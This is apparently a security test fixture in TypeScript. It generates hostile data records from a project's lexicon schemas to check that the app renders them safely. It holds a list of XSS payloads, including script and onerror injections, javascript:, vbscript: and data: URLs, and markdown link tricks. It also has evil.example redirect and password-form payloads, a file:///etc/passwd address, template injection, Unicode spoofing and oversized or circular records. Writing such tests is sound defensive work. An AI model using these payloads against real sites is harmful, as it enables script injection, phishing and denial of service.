/**
 * What somebody who means harm would write: records of every kind that the lexicons allow, made from the lexicons themselves,
 * so that a field that is added later is attacked too.
 */
import { definition, lexiconDocuments, newTid, nsid, RECORD_NSIDS } from '@frost/lexicon'

/** The global that every payload tries to set: where it is there, something ran. */
export const TRAP = 'frostWasHacked'
const run = `window.${TRAP}=1`

export interface Payload {
  readonly name: string
  /** What is written wherever a field takes text. */
  readonly text: string
  /** What is written where a field is an address. */
  readonly address: string
}

const scriptAddress = `javascript:${run}`

const payload = (name: string, text: string, address: string = scriptAddress): Payload => ({
  name,
  text,
  address,
})

export const PAYLOADS: readonly Payload[] = [
  payload('script', `<script>${run}</script><img src=x onerror="${run}">`),
  payload(
    'attribute',
    `" autofocus onfocus="${run}" x="' onmouseover='${run}`,
    `https://example.org/" onclick="${run}`,
  ),
  payload('svg', `<svg onload=${run}><animate onbegin=${run} attributeName=x></svg>`, `JaVa\tScRiPt:${run}`),
  payload(
    'element-end',
    `</script></title></textarea></style><script>${run}</script>`,
    ` \u0001javascript:${run}`,
  ),
  payload(
    'data-address',
    `[a](data:text/html,<script>${run}</script>)`,
    `data:text/html,<script>${run}</script>`,
  ),
  payload('markdown-link', `[a](javascript:${run}) <javascript:${run}> [b]: javascript:${run} "x"`),
  payload(
    'markdown-entities',
    `[a](&#106;avascript:${run}) ![b](x" onerror="${run})`,
    `&#106;avascript:${run}`,
  ),
  payload('frame', `<iframe srcdoc="<script>${run}</script>"></iframe>`, `vbscript:${run}`),
  payload(
    'base',
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    '//evil.example',
  ),
  payload(
    'style',
    '<style>*{display:none}</style><link rel=stylesheet href=//evil.example>',
    '\\\\evil.example\\share',
  ),
  payload('form', '<form action=//evil.example><input name=password autofocus></form>', 'https://[broken'),
  payload(
    'right-to-left',
    '\u202egnp.exe\u202c \u2066\u2067\u202e sold \u05e9\u05dc\u05d5\u05dd',
    'https://example.org/\u202egnp.exe',
  ),
  payload(
    'homoglyphs',
    '\u039d\u0410\u0405\u0410 \u0455\u0441\u0456\u0435\u0ff0\u0441\u0435',
    'https://x\u0430mple.org/',
  ),
  payload(
    'null-bytes',
    `null\u0000byte\u0007\u001b[31m\u0008\u007f\u0085\ufeff\ufffe`,
    'https://example.org/\u0000',
  ),
  payload('long-word', 'W'.repeat(100_000), `https://example.org/${'a'.repeat(100_000)}`),
  payload('stacked-marks', `Z${'\u0301\u0316\u0489'.repeat(30_000)}`, `https://example.org/%zz%`),
  payload('wide-character', '\ufdfd\u{12031}\u2031'.repeat(300), 'https://user:pass@example.org/'),
  payload(
    'deep-markdown',
    `${'> '.repeat(4000)}${'- '.repeat(2000)}${'['.repeat(4000)}${'*a_'.repeat(1000)}`,
  ),
  payload(
    'huge-markdown-table',
    `|${'a|'.repeat(800)}\n|${'-|'.repeat(800)}\n|${'b|'.repeat(800)}\n\n    ${'c'.repeat(3000)}`,
  ),
  payload('prototype', '__proto__', 'blob:https://example.org/x'),
  payload('constructor', 'constructor', 'file:///etc/passwd'),
  payload('number', '1e999', 'https://example.org:99999/'),
  payload('not-a-number', 'NaN', 'ftp://example.org'),
  payload(
    'template',
    '{{constructor.constructor("x")()}} $'.concat('{x} %s %00 <%= x %>'),
    'https://example.org/?a=1&b=<script>',
  ),
  payload('blank', ' \u200b\u00ad\u2060 ', ' '),
]

/** What the references of a record lead to. */
export interface Place {
  readonly did: string
  /** Of each kind of record (`dataset.entry`), one that is there. */
  readonly records: Readonly<Record<string, { readonly uri: string; readonly cid: string }>>
}

// biome-ignore lint/suspicious/noExplicitAny: a lexicon is walked as it is written
type Schema = any

const definitions = new Map<string, Schema>(
  lexiconDocuments.flatMap(({ id, defs }) =>
    Object.entries(defs).map(([name, schema]) => [name === 'main' ? id : `${id}#${name}`, schema] as const),
  ),
)

/** A record of a kind (`dataset.entry`) every field of which is given, with the payload wherever text is free. */
export function hostileRecord(kind: string, payload: Payload, place: Place): Record<string, unknown> {
  const id = nsid(kind)
  return { $type: id, ...(filled(definitions.get(id)!.record, '', id, payload, place) as object) }
}

/** Kinds of record that exist. */
export const KINDS: readonly string[] = RECORD_NSIDS.map(id => id.slice(nsid('').length))

/** A legal key for a record of a kind. */
export function hostileKey(kind: string, payload: Payload): string {
  const { key } = definitions.get(nsid(kind))!
  return key === 'literal:self' ? 'self' : key === 'tid' ? newTid() : payload.name
}

function filled(schema: Schema, field: string, document: string, payload: Payload, place: Place): unknown {
  const inside = (one: Schema, name = field, from = document) => filled(one, name, from, payload, place)
  switch (schema.type) {
    case 'object':
      return Object.fromEntries(
        Object.entries<Schema>(schema.properties ?? {})
          .map(([name, property]) => [name, inside(property, name)] as const)
          .filter(([, value]) => value !== undefined),
      )
    case 'ref':
      return referred(schema.ref)
    case 'union':
      return { $type: named(schema.refs[0]), ...(referred(schema.refs[0]) as object) }
    case 'array':
      return listed(schema)
    case 'string':
      return text(schema, field, payload, place)
    case 'integer':
      return schema.maximum ?? Number.MAX_SAFE_INTEGER
    case 'boolean':
      return true
    default:
      return undefined
  }

  function named(ref: string): string {
    return ref.startsWith('#') ? document.replace(/#.*/, '') + ref : ref
  }
  function referred(ref: string): unknown {
    const name = named(ref)
    if (name === 'com.atproto.repo.strongRef') return place.records[targetOf(field)] ?? undefined
    return inside(definitions.get(name), field, name)
  }
  /** One of each member of a union, and one that nobody knows. */
  function listed({ items, maxLength = 2 }: Schema): unknown[] {
    if (items.type !== 'union') return Array.from({ length: Math.min(2, maxLength) }, () => inside(items))
    const known = items.refs.map((ref: string) => ({ $type: named(ref), ...(referred(ref) as object) }))
    return [
      ...known,
      { $type: 'org.example.unknown#thing', text: payload.text.slice(0, 2000), deep: nested(12) },
    ]
      .filter(one => one !== undefined)
      .slice(0, maxLength)
  }
}

function nested(depth: number): object {
  return depth === 0 ? {} : { in: [nested(depth - 1)] }
}

/** Which kind of record a field means. */
function targetOf(field: string): string {
  if (field === 'collection') return 'dataset.collection'
  if (field === 'issue') return 'discussion.issue'
  return 'dataset.entry'
}

function text(schema: Schema, field: string, payload: Payload, place: Place): string | undefined {
  const target = place.records[targetOf(field)]
  switch (schema.format) {
    case 'did':
      return place.did
    case 'at-uri':
      return target?.uri
    case 'cid':
      return target?.cid
    case 'datetime':
      return '2026-01-01T00:00:00.000Z'
    case 'language':
      return 'en'
    case undefined:
      break
    default:
      throw new Error(`${field} has the format ${schema.format}, which the hostile corpus does not know`)
  }
  const isAddress = /ur[il]$|page$|prefix|endpoint/i.test(field)
  return cut(isAddress ? payload.address : payload.text, field, schema)
}

/** Bytes of one text among many: a server takes 150 kB in one call, and a record has hundreds of texts. */
const SHORT = 120
const LONG = ['title', 'description', 'text', 'rationale']

/** As much of a text as a field takes. */
function cut(
  whole: string,
  field: string,
  { maxGraphemes = Infinity, maxLength = Infinity }: Schema,
): string {
  const isLong = maxLength === 100_000 || (LONG.includes(field) && maxLength <= 3000)
  const most = field === 'valueJson' ? 8000 : isLong ? maxLength : Math.min(SHORT, maxLength)
  // Half a character at the end would be written as another.
  const fitting = Buffer.from(whole)
    .subarray(0, most)
    .toString()
    .replace(/\ufffd$/, '')
  if (fitting.length <= maxGraphemes) return fitting
  const graphemes = [...new Intl.Segmenter('en').segment(fitting)]
  return graphemes
    .slice(0, maxGraphemes)
    .map(({ segment }) => segment)
    .join('')
}

/** Datasets that are hostile by their shape: as large, as many, as circular, as wrong as the lexicon allows. */
export function hostileShapes(did: string): Record<string, Record<string, unknown>> {
  const many = <Item>(count: number, item: (at: number) => Item) =>
    Array.from({ length: count }, (_, at) => item(at))
  const box = (west: string, south: string, east: string, north: string) => ({
    bbox: { west, south, east, north },
  })
  const own = (key: string) => ({
    ref: { $type: definition('recordRef'), uri: `at://${did}/${nsid('dataset.entry')}/${key}` },
  })
  const entry = (title: string, fields: object) => ({
    $type: nsid('dataset.entry'),
    title,
    createdAt: '2026-01-01T00:00:00.000Z',
    ...fields,
  })
  return {
    'many-variables': entry('Variables without end', {
      models: [
        {
          $type: definition('arrayModel'),
          variables: many(1500, at => ({ name: `${'v'.repeat(40)}${at}` })),
        },
      ],
    }),
    'many-columns': entry('Columns without end', {
      models: [
        { $type: definition('tableModel'), columns: many(1500, at => ({ name: `c${at}`, type: 'utf8' })) },
      ],
    }),
    'many-copies': entry('Copies without end', {
      distributions: many(64, at => ({
        id: `same`,
        uri: `s3://bucket/${'d/'.repeat(200)}${at}`,
        of: 'same',
      })),
    }),
    'many-people': entry('Authors without end', {
      creators: many(200, at => ({ name: `${'N'.repeat(200)}${at}` })),
    }),
    'many-subjects': entry('Keywords without end', {
      subjects: many(128, at => ({ term: `${'k'.repeat(250)}${at}` })),
    }),
    'huge-unions': entry('Members of unions that nobody knows', {
      models: many(16, () => ({ $type: 'org.example.nothing#here', deep: nested(12) })),
      derivedFrom: many(100, at => ({ ref: { $type: 'org.example.nothing#here', at } })),
      extensions: many(64, at => ({ $type: 'org.example.nothing#here', text: 'x'.repeat(500), at })),
    }),
    circle: entry('Made from itself', { derivedFrom: [own('circle'), own('circle-back')] }),
    'circle-back': entry('Made from what was made from it', {
      derivedFrom: [own('circle'), own('circle-back')],
    }),
    nowhere: entry('Places that there are not', {
      coverage: {
        spatial: [
          box('NaN', 'Infinity', '-Infinity', '1e999'),
          box('-1e308', '91', '1e308', '-91'),
          box('180', '0', '-180', '0'),
          { point: { longitude: '999', latitude: '' } },
          { geometry: { wkt: 'POLYGON((0 0, 1e999 NaN, ((((' } },
          { geometry: { wkt: `POLYGON((${'0 0,'.repeat(1500)}0 0))` } },
        ],
        temporal: [
          { start: '9999999999', end: '-Y99999999' },
          { start: 'yesterday', end: '0000-00-00' },
          { start: '2020', end: '1020', ongoing: true },
        ],
      },
    }),
    'far-sizes': entry('Sizes beyond counting', {
      distributions: [
        { id: '0', uri: 's3://b/0', contentSize: '9'.repeat(30), fileCount: Number.MAX_SAFE_INTEGER },
        { id: '1', uri: 's3://b/1', contentSize: '-1' },
        { id: '2', uri: 's3://b/2', contentSize: '0x10' },
      ],
    }),
    ['__proto__']: entry('Named as what every object has', {
      subjects: [{ term: 'toString' }, { term: 'hasOwnProperty' }],
    }),
    'access.': entry('Access as what every object has', {
      access: { level: 'constructor' },
      distributions: [{ id: '0', uri: 's3://b/0', access: { level: '__proto__' }, format: 'constructor' }],
    }),
    'constructor.': entry('..', { language: 'x-klingon', resourceTypeGeneral: 'toString' }),
  }
}
